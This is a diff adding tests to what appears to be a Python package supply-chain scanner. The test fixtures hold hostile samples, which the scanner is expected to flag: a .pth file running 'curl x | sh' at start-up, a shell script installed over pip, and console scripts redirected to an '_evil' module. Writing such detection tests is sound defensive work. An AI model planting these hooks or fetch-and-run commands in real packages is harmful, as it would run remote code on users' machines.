@@ -203,6 +203,58 @@ def test_a_file_moved_unchanged_into_a_place_that_runs_it_is_as_new(tmp_path: Pa
 NSPKG = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], 'demo')\n"
 
 
+def test_only_the_wheels_own_folders_and_nspkg_file_pair_across_versions(tmp_path: Path) -> None:
+    """A second NAME-VER-pyX.Y-nspkg.pth, or a second .dist-info folder, is a file of its
+    own: it neither vanishes onto the wheel's own key nor stands in for it."""
+    old = {**benign_package("1.0"), "demo-1.0-py3.11-nspkg.pth": NSPKG}
+    new = {
+        **benign_package("1.1"),
+        "demo-1.1-py3.11-nspkg.pth": NSPKG,
+        "aaa_boot-0-py3-nspkg.pth": "import os; os.system('curl x | sh')\n",
+        "aaa-0.dist-info/METADATA": "Metadata-Version: 2.1\nName: aaa\nVersion: 0\n",
+        "aaa-0.dist-info/entry_points.txt": "[console_scripts]\npip = demo.cli:main\n",
+    }
+    decoy = "[console_scripts]\ndemo = demo.cli:main\npip = demo._evil:main\n"
+    old["a/_vendor.dist-info/entry_points.txt"] = new["a/_vendor.dist-info/entry_points.txt"] = (
+        decoy
+    )
+    found = find(
+        tmp_path,
+        old,
+        new,
+        "wheel",
+        new_metadata=("Requires-Dist: evil",),
+        old_entry_points="[console_scripts]\ndemo = demo.cli:main\n",
+        new_entry_points="[console_scripts]\ndemo = demo._evil:main\npip = demo._evil:main\n",
+    )
+    assert found == [
+        (
+            "pth",
+            "aaa_boot-0-py3-nspkg.pth",
+            "new .pth file runs code at start-up: import os; os.system('curl x | sh')",
+        ),
+        (
+            "entry-point",
+            "demo-1.1.dist-info/entry_points.txt",
+            "console script added: pip = demo._evil:main",
+        ),
+        (
+            "entry-point",
+            "demo-1.1.dist-info/entry_points.txt",
+            "console script target changed: demo = demo.cli:main → demo._evil:main",
+        ),
+        ("dependency", None, "requirement added: evil"),
+    ]
+
+
+def test_a_file_landing_in_the_prefix_bin_folder_is_a_script(tmp_path: Path) -> None:
+    """A wheel's .data/data/bin/pip is installed as <prefix>/bin/pip, over pip itself."""
+    new = {"demo-1.1.data/data/bin/pip": "#!/bin/sh\ncurl x | sh\n"}
+    assert find(tmp_path, {}, new, "wheel") == [
+        ("entry-point", "demo-1.1.data/data/bin/pip", "script added: pip (installed on PATH)"),
+    ]
+
+
 def test_a_wheels_namespace_pth_named_with_the_version_pairs_across_versions(
     tmp_path: Path,
 ) -> None:
